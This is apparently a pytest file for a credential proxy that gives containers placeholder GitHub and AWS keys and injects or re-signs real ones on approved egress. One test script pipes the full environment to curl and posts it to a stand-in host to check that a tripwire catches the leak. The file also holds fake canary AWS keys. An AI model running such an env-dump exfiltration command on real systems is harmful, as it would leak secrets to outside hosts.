"""Placeholders in the hands of real tools: what stands in the environment of a container, and what goes out for it."""

from __future__ import annotations

import asyncio
import re
from datetime import UTC, datetime

import pytest

from bench.installation import installation
from credproxy.injection.kinds import SigV4
from credproxy.injection.outgoing import Outgoing, inject
from credproxy.vault.credential import Credential
from credproxy.vault.secret import Secret
from credproxy.wire.target import Target
from protocol.control import Say
from tests.clients.quarter import Quarter, Reply
from tests.credproxy.street import CANARY, Arrived

pytestmark = pytest.mark.engine

TIMEOUT_S = 40.0
AWS = {"access_key_id": "AKIAREALREALREALREAL", "secret_access_key": "real-canary-secret-access-key-real-real1"}


async def ok(_arrived: Arrived) -> Reply:
    return Reply(body=b"{}", headers={"Content-Type": "application/json"})


async def test_a_tool_finds_its_key_and_the_real_one_goes_out(quarter: Quarter) -> None:
    """The variable that the provider's tools read holds something of a key's form; elsewhere it trips a wire."""
    async with (
        quarter.shop("api.github.com", ok, secret="key", must_carry=True) as github,
        quarter.shop("elsewhere.example", ok) as elsewhere,
    ):
        ran = await quarter.run(
            f"""echo $GITHUB_TOKEN; env | sha256sum
            curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com:{github.port}/user
            curl -sS -w '%{{http_code}}' https://api.github.com:{github.port}/without
            env | curl -sS -w '%{{http_code}}' --data-binary @- https://elsewhere.example:{elsewhere.port}/dump"""
        )
        told = ran.well()
        assert told.startswith("ghp_")
        assert [arrived.header("authorization") for arrived in github.inbox] == [[f"Bearer {CANARY}"]]
        assert '"placeholder_missing"' in told
        assert told.endswith("403")
        assert elsewhere.inbox == []
        assert CANARY not in told
        assert (await quarter.street.event("tripwire")).task_id == "task_1"


async def test_what_curl_signs_with_its_placeholder_is_signed_again(quarter: Quarter) -> None:
    """AWS: the request arrives under the real key's id and signature, and the key itself stays where it is."""
    quarter.street.proxy.vault.add("aws", AWS, type_name="aws")
    host = "bucket.s3.eu-central-1.amazonaws.com"
    async with quarter.shop(host, ok, secret="aws") as bucket:
        place = f"https://{host}:{bucket.port}"
        ran = await quarter.run(
            f"""echo "$AWS_ACCESS_KEY_ID"
            curl -sS --aws-sigv4 aws:amz:eu-central-1:s3 --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \\
            -X PUT --data-binary hello '{place}/a%20key?x-id=PutObject'"""
        )
        assert ran.well().startswith("AKIA")
        (arrived,) = bucket.inbox
    (value,) = arrived.header("authorization")
    assert f"Credential={AWS['access_key_id']}/" in value
    assert AWS["secret_access_key"].encode() not in bytes(bucket.everything)
    assert signature_of(arrived, host, bucket.port) == value


def signature_of(arrived: Arrived, host: str, port: int) -> str:
    """Return what the service would compute for what it got."""
    path, _, query = arrived.line.split()[1].partition("?")
    (stamp,) = arrived.header("x-amz-date")
    now = datetime.strptime(stamp, "%Y%m%dT%H%M%SZ").replace(tzinfo=UTC).timestamp()
    signed = [
        (name.encode(), arrived.header(name)[0].encode()) for name in ("host", "content-type") if arrived.header(name)
    ]
    outgoing = Outgoing(
        "PUT", Target(scheme="https", host=host, port=port, path=path, query=query), signed, arrived.body
    )
    real = Credential("aws", "current", {name: Secret("aws", value) for name, value in AWS.items()})
    again = inject(outgoing, SigV4(service="s3", region="eu-central-1"), real, now=now)
    return dict(again.headers)[b"authorization"].decode()


async def test_the_real_agents_tools_find_placeholders_in_a_whole_installation() -> None:
    """Host, proxy, container and agent as they are: the variable is there, and the model may read it without alarm."""
    look = {"tool": "shell", "arguments": {"command": "echo token=$GITHUB_TOKEN."}}
    script = {"rules": [{"when": "", "turns": [{"text": "", "calls": [look]}, {"text": "it said {output}"}]}]}
    grants = "- {host: api.github.com, secret: github}\n"
    async with (
        installation(script=script, grants=grants) as home,
        home.control.chat() as chat,
        asyncio.timeout(TIMEOUT_S),
    ):
        await chat.say(Say(text="look"))
        async for shown in chat.shown():
            if shown.kind == "message":
                break
    assert re.search(r"token=ghp_[A-Za-z0-9]{36}\.", shown.text), shown.text
